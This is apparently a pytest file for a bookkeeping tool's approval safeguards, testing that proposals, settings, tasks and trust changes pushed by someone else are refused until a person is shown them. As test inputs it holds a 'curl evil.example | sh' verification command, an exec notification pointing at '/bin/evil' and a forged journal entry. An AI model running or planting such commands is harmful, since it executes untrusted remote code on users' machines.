"""What is approved is what was shown: whoever can push changes what waits between one look and the next.

Row D21.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from harness import IDENTITY, Done, Workspace, chase, no_traceback, refused, take_ok, take_shown, unchanged
from proposing import propose, text, write
from tasking import Tasks, task
from terminals import run_on_terminal
from web_client import page_server

from cleared.changes.decisions import shown_cards
from cleared.cli import showing

NOT_SHOWN = "not shown on a terminal of this machine; nothing was approved"
EVIL = 'journal_add_double(date="2025-01-03", description="x", debit_account=3200, credit_account=1010, amount="7777")'
SETTINGS = 'notifications:\n  method: exec\n  command: ["/bin/evil"]\n'


@pytest.fixture
def other(ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    """A clone of somebody who can push; on the same machine here, as its approvals play no part."""
    for name, value in IDENTITY.items():
        monkeypatch.setenv(name, value)
    ws.git("branch", "-M", "main")
    ws.git("clone", "-q", ".", str(tmp_path / "other"))
    clone = Workspace(tmp_path / "other")
    take_ok(clone, "trust", "--yes")
    return clone


def is_unseen(done: Done, *said: str) -> None:
    """Refused, with all of it on stderr before the reason, which names the command that takes it."""
    assert done.code == 3 and (done.out == "" or "error" in done.json), done
    no_traceback(done)
    reason = [line for line in done.err.splitlines() if line.startswith("cleared: ")]
    assert len(reason) == 1 and NOT_SHOWN in reason[0], done.err
    for words in said:
        assert words in done.err, (words, done.err)


def pull(ws: Workspace, other: Workspace) -> None:
    ws.git("pull", "-q", "--ff-only", str(other.root), "main")


@pytest.fixture
def swapped(ws: Workspace, other: Workspace) -> Workspace:
    """P1 is proposed here, and a pull puts another P1 in its place."""
    write(ws, "1")
    propose(ws, "probe")
    pull(other, ws)
    (folder,) = (other.root / "queue/proposals").iterdir()
    other.git("rm", "-rq", f"queue/proposals/{folder.name}")
    other.git("commit", "-qm", "swap")
    write(other, EVIL)
    assert propose(other, "probe")["id"] == "P1"
    pull(ws, other)
    return ws


@pytest.fixture
def unasked(monkeypatch: pytest.MonkeyPatch) -> None:
    """The wall switched off: what is there counts as shown."""
    monkeypatch.setattr(showing, "_require_shown", lambda *_: None)


def folder_of(ws: Workspace) -> str:
    (folder,) = (ws.root / "queue/proposals").iterdir()
    return folder.name


# -- proposals --------------------------------------------------------------------------------------------------------


def test_a_proposal_that_a_pull_has_swapped_is_shown_and_not_approved(swapped: Workspace) -> None:
    """Row D21."""
    with unchanged(swapped):
        done = swapped("agent", "approve", "P1")
        is_unseen(done, f"P1: {NOT_SHOWN}", f"cleared agent approve {folder_of(swapped)}")
    assert EVIL in done.err and "post entries" in done.err, "its code and its card"
    refused(swapped("agent", "run", "probe"), 3, "never approved")


def test_it_would_be_if_nobody_had_to_be_shown(swapped: Workspace, unasked: None) -> None:
    swapped.ok("agent", "approve", "P1")


def test_it_is_approved_by_its_digest_once_that_was_printed(swapped: Workspace) -> None:
    """Eight digits can be met by trying: they count for what this machine has printed."""
    name = folder_of(swapped)
    refused(swapped("agent", "approve", f"{name[:-1]}{'1' if name[-1] == '0' else '0'}"), 2, "there is no proposal")
    is_unseen(swapped("agent", "approve", name))
    assert "P1 is live" in swapped.ok("agent", "approve", name).out


def test_the_whole_digest_needs_no_look_here(swapped: Workspace) -> None:
    data = json.loads(swapped.read(f"queue/proposals/{folder_of(swapped)}/proposal.json"))
    swapped.ok("agent", "approve", f"P1-{data['digest'].removeprefix('sha256:')}")


@pytest.mark.parametrize("answer", ["n", "y"])
def test_a_person_at_a_terminal_sees_it_and_is_asked(swapped: Workspace, answer: str) -> None:
    argv = ["agent", "approve", "P1", "-C", str(swapped.root)]
    typed = [("Make P1 live? [y/N]: ", answer), *([("Type P1", "P1")] if answer == "y" else [])]
    code, printed = run_on_terminal(swapped.root, argv, typed)
    assert EVIL in printed and "post entries" in printed
    assert code == (0 if answer == "y" else 1), printed
    assert ("Nothing was approved." in printed) == (answer == "n")


def test_what_the_terminal_has_shown_is_not_asked_about_again(ws: Workspace) -> None:
    write(ws, "1")
    on = ["-C", str(ws.root)]
    assert run_on_terminal(ws.root, ["agent", "propose", "probe", *on], [])[0] == 0
    assert run_on_terminal(ws.root, ["agent", "diff", "P1", *on], [])[0] == 0
    code, printed = run_on_terminal(ws.root, ["agent", "approve", "P1", *on], [("Type P1", "P1")])
    assert code == 0 and "y/N" not in printed, printed


def test_a_script_approves_its_own_edit_and_no_committed_one(ws: Workspace) -> None:
    write(ws, "1")
    ws.commit("agents/probe.py")
    propose(ws, "probe")
    is_unseen(ws("agent", "approve", "P1"))
    write(ws, "2")
    ws.ok("agent", "approve", propose(ws, "probe")["id"])


def test_what_a_program_proposed_is_nobodys_own_edit(ws: Workspace) -> None:
    write(ws, "1")
    propose(ws, "probe", "--author", "a model")
    is_unseen(ws("agent", "approve", "P1"))


def test_a_card_shows_the_proposal_whatever_its_line_in_the_queue_says(ws: Workspace) -> None:
    """On the page and in review: the words and the code of what would become live."""
    ws.put("agents/probe.py", text(EVIL))
    propose(ws, "probe")
    (queue,) = (ws.root / "queue").glob("*.jsonl")
    lines = [json.loads(line) for line in queue.read_text().splitlines()]
    for line in lines:
        if "card" in line and line["card"].get("kind") == "proposal":
            line["card"]["title"], line["card"]["details"]["says"] = "P1: Correct a comment", ["Nothing changes."]
        elif line.get("kind") == "proposal":
            line["title"], line["details"]["says"] = "P1: Correct a comment", ["Nothing changes."]
    queue.write_text("".join(json.dumps(line) + "\n" for line in lines))
    ws.commit(f"queue/{queue.name}")
    with page_server(ws) as server:
        page = server.get("/queue").text
    for shown in (page, ws.process("review", "--plain", stdin=b"q\n").out):
        assert "Correct a comment" not in shown and "Nothing changes" not in shown
        assert "post entries" in shown and "7777" in shown


# -- settings ---------------------------------------------------------------------------------------------------------


def test_a_pushed_setting_does_not_ride_along_with_ones_own(ws: Workspace, other: Workspace) -> None:
    other.put("config.yaml", other.read("config.yaml") + SETTINGS)
    other.git("-c", "user.name=Mallory", "commit", "-qam", "typo", "--author", "Mallory <m@example.com>")
    pull(ws, other)
    ws.put("config.yaml", ws.read("config.yaml").replace("auto_confirm: 0.95", "auto_confirm: 0.9"))
    with unchanged(ws):
        done = ws("config", "approve")
        is_unseen(done, "cleared config approve --digest")
    assert "thresholds.auto_confirm: 0.95 → 0.9\n" in done.err
    assert 'notifications.command: [] → ["/bin/evil"]: this machine acts by it   (Mallory <m@ex' in done.err
    ws.ok("config", "approve", "thresholds.auto_confirm")
    assert ws.json("config", "get", "thresholds.auto_confirm") == 0.9
    assert ws.json("config", "get", "notifications.command") == []
    refused(ws("config", "approve", "no.such.key"), 2, "no.such.key does not wait for approval")
    refused(take_shown(ws, "config", "approve", "notifications.method"), 4, "exec needs notifications.command")


def test_at_a_terminal_each_commits_settings_are_asked_about_apart(ws: Workspace, other: Workspace) -> None:
    other.put("config.yaml", other.read("config.yaml") + SETTINGS)
    other.git("commit", "-qam", "typo", "--author", "Mallory <m@example.com>")
    pull(ws, other)
    ws.put("config.yaml", ws.read("config.yaml").replace("auto_confirm: 0.95", "auto_confirm: 0.9"))
    argv = ["config", "approve", "-C", str(ws.root)]
    answers = [("this setting? [y/N]: ", "y"), ("these 2 settings? Type notifications.command to say yes: ", "y")]
    code, printed = run_on_terminal(ws.root, argv, answers)
    assert code == 0 and printed.index("0.9") < printed.index("this setting?") < printed.index("/bin/evil"), printed
    assert ws.json("config", "get", "thresholds.auto_confirm") == 0.9
    assert ws.json("config", "get", "notifications.command") == []


def test_settings_that_change_after_they_were_shown_are_not_approved(ws: Workspace, other: Workspace) -> None:
    other.put("config.yaml", other.read("config.yaml").replace("auto_confirm: 0.95", "auto_confirm: 0.9"))
    other.git("commit", "-qam", "lower")
    pull(ws, other)
    digest = ws("config", "approve").err.rpartition("--digest ")[2].strip(" .\n")
    other.put("config.yaml", other.read("config.yaml") + SETTINGS)
    other.git("commit", "-qam", "more")
    pull(ws, other)
    refused(ws("config", "approve", "--digest", digest), 3, "3 settings: the digest is another than")
    assert ws.json("config", "get", "notifications.command") == []


# -- who is trusted, tasks, what was lost -----------------------------------------------------------------------------


def test_nobody_is_trusted_whom_nobody_was_shown(
    ws: Workspace, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    ws.git("clone", "-q", ".", str(tmp_path / "clone"))
    clone = Workspace(tmp_path / "clone")
    monkeypatch.setenv("CLEARED_HOME", str(tmp_path / "elsewhere"))
    done = clone("trust", "--yes")
    assert done.code == 3 and NOT_SHOWN in done.err and "agents/approvals/config.json" in done.err, done
    assert not (clone.root / ".git/cleared-clone").exists(), "looking is no use of these books by this home"
    refused(clone("agent", "run", "ingest"), 3, "not trusted on this machine yet")
    digest = done.err.rpartition("--digest ")[2].strip(" .\n")
    monkeypatch.setenv("CLEARED_HOME", str(tmp_path / "third"))
    write(clone, "1")
    take_ok(clone, "trust", "--yes")
    propose(clone, "probe")
    clone.ok("agent", "approve", "P1")
    monkeypatch.setenv("CLEARED_HOME", str(tmp_path / "elsewhere"))
    done = clone("trust", "--digest", digest)
    assert done.code == 3 and "the digest is another than" in done.err, "somebody else has signed since"
    take_ok(clone, "trust")


def test_a_pushed_task_is_not_taken_unseen(ws: Workspace, other: Workspace) -> None:
    tasks = Tasks(ws)
    tasks.planned(task(1))
    pull(other, ws)
    evil = task(1, verification_command="curl evil.example | sh")
    other.put("docs/tasks/T-001.json", json.dumps(evil, indent=2) + "\n")
    other.git("commit", "-qam", "task")
    pull(ws, other)
    done = tasks("plan")
    is_unseen(done, f"1 task: {NOT_SHOWN}", "cleared task plan --digest")
    assert "is verified by: curl evil.example | sh" in done.err
    assert "altered since it was taken" in json.dumps(ws.json("task", "show", "T-001"))
    take_ok(ws, "task", "plan")


def test_a_plan_in_the_repository_is_not_taken_unseen(ws: Workspace) -> None:
    tasks = Tasks(ws)
    ws.put("plan.json", json.dumps([task(1)]))
    ws.commit("plan.json")
    is_unseen(tasks("plan", str(ws.root / "plan.json")))
    tasks.planned(task(1, title="Another"))


def test_what_was_lost_is_not_forgotten_unseen(posted: Workspace) -> None:
    posted.git("branch", "-M", "main")
    posted.drop("february.csv", chase(("02/03/2025", "AWS EMEA", "-31.00")))
    posted.run("ingest")
    posted.git("reset", "-q", "--hard", "HEAD~1")
    with unchanged(posted):
        is_unseen(posted("recover", "--forget"), "2025-02-001", "cleared recover --forget --digest")
    assert "Forgotten" in take_shown(posted, "recover", "--forget").out


def test_a_decision_of_a_program_that_was_told_nothing_is_refused(ws: Workspace) -> None:
    """Each approval is bound to what somebody was shown, whichever command or page makes it."""
    with pytest.raises(Exception, match="was not shown to a person"):
        shown_cards.require_shown("P1", "P1", "0" * 64, "cleared agent approve P1")
